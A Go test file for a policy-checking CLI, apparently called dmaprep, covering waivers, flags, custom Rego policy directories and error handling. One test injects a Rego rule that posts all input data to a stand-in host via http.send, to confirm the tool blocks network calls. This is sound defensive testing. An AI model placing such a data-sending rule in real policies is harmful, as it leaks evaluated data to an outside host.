package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dmaprep/dmaprep/report"
)

const example = "../../examples/custom-policy"

func checkJSON(t *testing.T, args ...string) (report.Report, result) {
	t.Helper()
	r := dmaprep(t, "", nil, append([]string{"check", "--now", fixedNow, "--format", "json"}, args...)...)
	var rep report.Report
	if r.code != exitError {
		var err error
		if rep, err = reportOfOne(r.stdout); err != nil {
			t.Fatalf("exit %d: %v\n%s", r.code, err, r.stderr)
		}
	}
	return rep, r
}

func statusOf(rep report.Report, id string) string {
	for _, r := range rep.Results {
		if r.ID == id {
			return r.Status
		}
	}
	return "(absent)"
}

func writeTemp(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestWaivers(t *testing.T) {
	t.Parallel()
	waivers := writeTemp(t, "waivers.yaml", `
- requirement: FO102
  justification: upgrade in the window of 2 December
  owner: ops@example.com
  expires: 2026-12-05
- requirement: backup-same-dataminer-id
  justification: nothing to waive here
  expires: "2026-12-31"
- requirement: FO203
  justification: long gone
  expires: "2026-01-01"
`)
	rep, r := checkJSON(t, "--waivers", waivers, failing)
	if r.code != exitReady {
		t.Fatalf("a waived failure still fails the run: exit %d\n%s", r.code, r.stderr)
	}
	var fo102 report.Result
	for _, res := range rep.Results {
		if res.ID == "FO102" {
			fo102 = res
		}
	}
	if fo102.Status != "waived" || fo102.Waiver == nil || fo102.Waiver.Status != "fail" || fo102.Waiver.Owner != "ops@example.com" || fo102.Waiver.Expires != "2026-12-05" {
		t.Errorf("FO102: %+v waiver %+v", fo102, fo102.Waiver)
	}
	var uses []string
	for _, w := range rep.Waivers {
		uses = append(uses, w.Requirement+"="+w.Use)
	}
	if got := strings.Join(uses, " "); got != "FO102=applied backup-same-dataminer-id=unused FO203=expired" {
		t.Errorf("waiver uses: %s", got)
	}
	text := dmaprep(t, "", nil, "check", "--now", fixedNow, "--waivers", waivers, failing)
	for _, want := range []string{"WAIVED", "waived: until 2026-12-05 by ops@example.com", "applied  FO102:", "unused   backup-same-dataminer-id:", "expired  FO203:"} {
		if !strings.Contains(text.stdout, want) {
			t.Errorf("text report does not show %q:\n%s", want, text.stdout)
		}
	}
	// After the expiry the failure is back.
	if _, r := checkJSON(t, "--waivers", waivers, "--now", "2026-12-06T00:00:00Z", failing); r.code != exitNotReady {
		t.Errorf("expired waiver still applied: exit %d", r.code)
	}
}

func TestMalformedWaivers(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, content, want string }{
		{"no justification", "- requirement: FO102\n  expires: 2026-12-05\n", `waiver 1 (FO102): field "justification" is required`},
		{"no expiry", "- requirement: FO102\n  justification: x\n", `waiver 1 (FO102): field "expires" is required`},
		{"bad date", "- requirement: FO102\n  justification: x\n  expires: next week\n", `field "expires": "next week" is not a date`},
		{"unknown requirement", "- requirement: FO999\n  justification: x\n  expires: 2026-12-05\n", `no requirement has the ID or name "FO999"`},
		{"typo in a field", "- requirement: FO102\n  justifcation: x\n  expires: 2026-12-05\n", `unknown field "justifcation"`},
		{"bad agent", "- requirement: FO102\n  agent: both\n  justification: x\n  expires: 2026-12-05\n", `"both" is not primary or backup`},
		{"not a list", "requirement: FO102\n", "want a list of waivers"},
		{"not YAML", "- [unclosed\n", "invalid YAML"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			path := writeTemp(t, "w.yaml", tc.content)
			r := dmaprep(t, "", nil, "check", "--waivers", path, readyVIP)
			if r.code != exitError || !strings.Contains(r.stderr, tc.want) || !strings.Contains(r.stderr, path) {
				t.Errorf("exit %d, stderr %q; want 2 and %q naming the file", r.code, r.stderr, tc.want)
			}
		})
	}
}

func TestOnlyAndDisable(t *testing.T) {
	t.Parallel()
	rep, r := checkJSON(t, "--only", "FO101", "--only", "backup-same-version", failing)
	if r.code != exitNotReady || len(rep.Results) != 2 {
		t.Errorf("--only: exit %d, %d results", r.code, len(rep.Results))
	}
	rep, r = checkJSON(t, "--disable", "FO102", failing)
	if r.code != exitReady || statusOf(rep, "FO102") != "(absent)" {
		t.Errorf("--disable: exit %d, FO102 %s", r.code, statusOf(rep, "FO102"))
	}
	if r := dmaprep(t, "", nil, "check", "--only", "FO999", readyVIP); r.code != exitError || !strings.Contains(r.stderr, `--only: no requirement has the ID or name "FO999"`) {
		t.Errorf("unknown --only: exit %d %s", r.code, r.stderr)
	}
	data := writeTemp(t, "params.json", `{"disable": ["FO102"]}`)
	if _, r := checkJSON(t, "--data", data, failing); r.code != exitReady {
		t.Errorf("disable from --data: exit %d", r.code)
	}
}

func TestParamsFromData(t *testing.T) {
	t.Parallel()
	hostnameOnly := writeTemp(t, "p.yaml", "require_hostname_mode: true\n")
	rep, r := checkJSON(t, "--data", hostnameOnly, readyVIP)
	if r.code != exitNotReady || statusOf(rep, "FO201") != "fail" {
		t.Errorf("require_hostname_mode on a VIP pair: exit %d, FO201 %s", r.code, statusOf(rep, "FO201"))
	}
	issuers := writeTemp(t, "p.yaml", "trusted_issuers: [CN=Some Other CA]\n")
	rep, _ = checkJSON(t, "--data", issuers, readyVIP)
	if statusOf(rep, "FO402") != "fail" {
		t.Errorf("an issuer outside trusted_issuers: FO402 %s", statusOf(rep, "FO402"))
	}
	bad := writeTemp(t, "p.json", `{"trusted_issuers": "CN=x"}`)
	if r := dmaprep(t, "", nil, "check", "--data", bad, readyVIP); r.code != exitError || !strings.Contains(r.stderr, `parameter "trusted_issuers" must be a list`) {
		t.Errorf("bad --data: exit %d %s", r.code, r.stderr)
	}
}

func TestCustomPolicyDirectory(t *testing.T) {
	t.Parallel()
	// The worked example in examples/ runs beside the built-in requirements...
	rep, r := checkJSON(t, "--policy", example, readyVIP)
	if r.code != exitReady || statusOf(rep, "ACME001") != "pass" || statusOf(rep, "FO101") != "pass" {
		t.Errorf("--policy: exit %d ACME001 %s FO101 %s\n%s", r.code, statusOf(rep, "ACME001"), statusOf(rep, "FO101"), r.stderr)
	}
	// ...or alone, with --no-builtin, and takes its parameters from --data.
	rep, r = checkJSON(t, "--policy", example, "--no-builtin", "../../testdata/facts/valid/fo104-backup-has-elements.json")
	if r.code != exitNotReady || len(rep.Results) != 1 || statusOf(rep, "ACME001") != "fail" {
		t.Errorf("--no-builtin: exit %d, %d results\n%s", r.code, len(rep.Results), r.stderr)
	}
	raised := writeTemp(t, "p.yaml", "max_backup_elements: 50\n")
	if _, r = checkJSON(t, "--policy", example, "--no-builtin", "--data", raised, "../../testdata/facts/valid/fo104-backup-has-elements.json"); r.code != exitReady {
		t.Errorf("--data max_backup_elements: exit %d", r.code)
	}
	// Its tests run through dmaprep test, with coverage per file; alone (--no-builtin),
	// since they need only the library (TestReadmeExamples runs the README's
	// --coverage --threshold run of them).
	tr := dmaprep(t, "", nil, "test", "--policy", example, "--no-builtin", "--run", "acme", "--coverage")
	if tr.code != exitReady || !strings.Contains(tr.stdout, "PASS: 4/4") || !strings.Contains(tr.stdout, "acme_backup_element_limit.rego") {
		t.Errorf("dmaprep test --policy: exit %d\n%s%s", tr.code, tr.stdout, tr.stderr)
	}
	// Without --run, the embedded library's and report's own tests run beside them: none
	// may need the embedded requirements that --no-builtin leaves out.
	all := dmaprep(t, "", nil, "test", "--policy", example, "--no-builtin")
	if all.code != exitReady || !strings.Contains(all.stdout, "PASS: ") || strings.Contains(all.stdout, "FAIL") {
		t.Errorf("dmaprep test --policy --no-builtin: exit %d\n%s%s", all.code, all.stdout, all.stderr)
	}
}

func TestPolicyDirectoryErrors(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	dup := strings.Replace(readFile(t, filepath.Join(example, "acme_backup_element_limit.rego")), "id: ACME001", "id: FO101", 1)
	os.WriteFile(filepath.Join(dir, "dup.rego"), []byte(dup), 0o644)
	r := dmaprep(t, "", nil, "check", "--policy", dir, readyVIP)
	if r.code != exitError || !strings.Contains(r.stderr, "requirement ID FO101 is already used by policies/requirements/backup_same_dataminer_id.rego") || !strings.Contains(r.stderr, "dup.rego") {
		t.Errorf("ID collision: exit %d %s", r.code, r.stderr)
	}
	net := t.TempDir()
	leak := strings.Replace(readFile(t, filepath.Join(example, "acme_backup_element_limit.rego")),
		"result := lib.result", "violation contains \"leak\" if http.send({\"method\": \"post\", \"url\": \"https://collector.invalid/\", \"body\": input}).status_code == 200\n\nresult := lib.result", 1)
	os.WriteFile(filepath.Join(net, "leak.rego"), []byte(leak), 0o644)
	r = dmaprep(t, "", nil, "check", "--policy", net, readyVIP)
	if r.code != exitError || !strings.Contains(r.stderr, "leak.rego:") || !strings.Contains(r.stderr, "http.send is not allowed") {
		t.Errorf("http.send: exit %d %s", r.code, r.stderr)
	}
	if r := dmaprep(t, "", nil, "check", "--policy", filepath.Join(dir, "nope"), readyVIP); r.code != exitError {
		t.Errorf("missing --policy dir: exit %d", r.code)
	}
}

func TestRunawayPolicyIsStopped(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	slow := strings.Replace(readFile(t, filepath.Join(example, "acme_backup_element_limit.rego")),
		"result := lib.result", "violation contains \"slow\" if count([x | some x in numbers.range(1, 1000000000)]) < 0\n\nresult := lib.result", 1)
	os.WriteFile(filepath.Join(dir, "slow.rego"), []byte(slow), 0o644)
	r := dmaprep(t, "", nil, "check", "--policy", dir, "--eval-timeout", "300ms", readyVIP)
	if r.code != exitError || !strings.Contains(r.stderr, "requirement ACME001 ("+filepath.Clean(dir)+"/slow.rego) did not finish") {
		t.Errorf("runaway policy: exit %d %s", r.code, r.stderr)
	}
}
